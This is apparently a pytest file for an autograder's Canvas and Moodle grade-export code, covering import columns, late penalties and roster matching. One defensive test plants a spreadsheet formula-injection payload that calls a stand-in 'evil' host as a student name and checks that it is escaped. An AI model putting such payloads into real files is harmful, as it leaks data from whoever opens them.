"""LMS import files: columns as Canvas and Moodle document them, one row per roster student."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autograder.batch.submissions import Person, Submission
from autograder.config import LatePolicy
from autograder.lms.export import ExportError, export
from autograder.lms.roster import read_roster
from autograder.reports.late import assess
from autograder.reports.manual import ManualGrade
from autograder.reports.marks import Marks, WrittenMark

DATA = Path(__file__).resolve().parents[2] / "data" / "lms"
# Canvas: "Importing a CSV file to Grades": Student Name, ID, SIS User ID, SIS Login ID, Section, then the
# assignment column ("Name (assignment id)" updates that assignment; a new name creates one).
CANVAS_COLUMNS = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
POLICY = LatePolicy.from_dict({"due": "2026-02-06T23:59:00Z", "penalty": 10, "per": "day"})


def marks(submission: str, auto: float, written: float | None, late: str = "") -> Marks:
    grade = ManualGrade(submission, "q6_written", written, "comment") if written is not None else None
    lateness = assess(POLICY, submitted=late, source="gradescope") if late else None
    return Marks(submission, auto, 17, (WrittenMark("q6_written", 2, grade),), lateness)


def rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def graded() -> tuple[dict[str, Marks], dict[str, Submission]]:
    subs = {"doejane_12345": Submission("doejane_12345", Path("a.ipynb"), "canvas", "",
                                        people=(Person(canvas_id="12345", login="doejane"),)),
            "aliddell": Submission("aliddell", Path("b.ipynb"), "file", "", people=(Person(login="aliddell"),)),
            "stranger": Submission("stranger", Path("c.ipynb"), "file", "", people=(Person(login="stranger"),))}
    return ({"doejane_12345": marks("doejane_12345", 17, 2),
             "aliddell": marks("aliddell", 15, 1, late="2026-02-08T10:00:00Z"),  # 2 started days: -20 %
             "stranger": marks("stranger", 10, None)}, subs)


def test_canvas_import_has_the_documented_columns_one_row_per_student_and_scales_to_points_possible(
        graded, tmp_path: Path) -> None:
    result = export("canvas", *graded, assignment="hw01", roster=read_roster(DATA / "canvas_gradebook_export.csv"),
                    out=tmp_path / "canvas.csv")
    table = rows(tmp_path / "canvas.csv")
    assert table[0] == CANVAS_COLUMNS + ["HW1 (401234)"]
    assert table[1] == ["    Points Possible", "", "", "", "", "19"]
    body = {r[0]: r for r in table[2:]}
    assert set(body) == {"Doe, Jane", "Liddell, Alice", "Builder, Bob", "Nobody, Nora"}  # not "Student, Test"
    assert body["Doe, Jane"] == ["Doe, Jane", "12345", "S1001", "jdoe", "NN 2026 Lab A", "19"]
    assert body["Liddell, Alice"][5] == "12.8"   # (15 + 1) less 20 %
    assert body["Builder, Bob"][5] == body["Nobody, Nora"][5] == ""
    assert result.matching.unmatched == ["stranger"]
    assert [result.roster.students[i].name for i in result.matching.missing] == ["Builder, Bob", "Nobody, Nora"]


def test_canvas_without_a_matching_column_creates_a_new_assignment_and_says_so(graded, tmp_path: Path) -> None:
    result = export("canvas", *graded, assignment="hw07", roster=read_roster(DATA / "canvas_gradebook_export.csv"),
                    out=tmp_path / "canvas.csv", missing="zero")
    table = rows(tmp_path / "canvas.csv")
    assert table[0][-1] == "hw07" and table[1][-1] == "19"
    assert {r[0]: r[5] for r in table[2:]}["Nobody, Nora"] == "0"
    assert "Canvas will create the assignment 'hw07'" in result.notes[0]


def test_moodle_worksheet_is_written_back_with_grade_and_feedback_scaled_to_its_maximum(graded, tmp_path: Path) -> None:
    marks_, subs = graded
    subs["Jane_Doe_1234567"] = Submission("Jane_Doe_1234567", Path("j.ipynb"), "moodle", "",
                                          people=(Person(name="Jane Doe", moodle_participant="1234567"),))
    marks_["Jane_Doe_1234567"] = marks("Jane_Doe_1234567", 17, 1)
    export("moodle", marks_, subs, assignment="hw01", roster=read_roster(DATA / "moodle_grading_worksheet.csv"),
           out=tmp_path / "moodle.csv")
    raw = (tmp_path / "moodle.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfIdentifier,")
    table = rows(tmp_path / "moodle.csv")
    assert table[0] == rows(DATA / "moodle_grading_worksheet.csv")[0]  # Moodle's own columns, in its order
    jane = dict(zip(table[0], table[1]))
    assert jane["Identifier"] == "Participant 1234567" and jane["Grade"] == "94.737"  # 18 / 19 of 100
    assert jane["Feedback comments"] == "Autograded 17/17; q6_written 1/2; total 18/19."
    assert dict(zip(table[0], table[3]))["Grade"] == ""  # no submission: left as it was


def test_a_roster_of_the_other_lms_is_refused_with_what_to_export(graded, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="needs the assignment's Moodle grading worksheet"):
        export("moodle", *graded, assignment="hw01", roster=read_roster(DATA / "canvas_gradebook_export.csv"),
               out=tmp_path / "x.csv")


def test_plain_csv_lists_every_part_of_the_mark(graded, tmp_path: Path) -> None:
    export("csv", *graded, assignment="hw01", roster=None, out=tmp_path / "all.csv")
    table = rows(tmp_path / "all.csv")
    by_sub = {r[6]: dict(zip(table[0], r)) for r in table[1:]}
    assert by_sub["aliddell"]["raw"] == "16" and by_sub["aliddell"]["late_penalty"] == "3.2"
    assert by_sub["aliddell"]["final"] == "12.8" and by_sub["stranger"]["ungraded"] == "q6_written"


def test_a_students_name_never_reaches_the_import_file_as_a_formula(graded, tmp_path: Path) -> None:
    """Names are the students' own text in the LMS: a name like a formula is written with an
    apostrophe in front, while ids and scores (the columns the LMS matches and imports) stay as they are."""
    text = (DATA / "canvas_gradebook_export.csv").read_text(encoding="utf-8-sig")
    hostile = tmp_path / "roster.csv"
    hostile.write_text(text.replace("Doe, Jane", '=HYPERLINK("http://evil/"&A1)'), encoding="utf-8")
    for target in ("canvas", "csv"):
        export(target, *graded, assignment="hw01", roster=read_roster(hostile), out=tmp_path / f"{target}.csv")
        table = rows(tmp_path / f"{target}.csv")
        names = [c for r in table for c in r if "HYPERLINK" in c]
        assert names and all(c.startswith("'=") for c in names), (target, names)
    body = {r[1]: r for r in rows(tmp_path / "canvas.csv")[2:]}
    assert body["12345"][1:] == ["12345", "S1001", "jdoe", "NN 2026 Lab A", "19"]
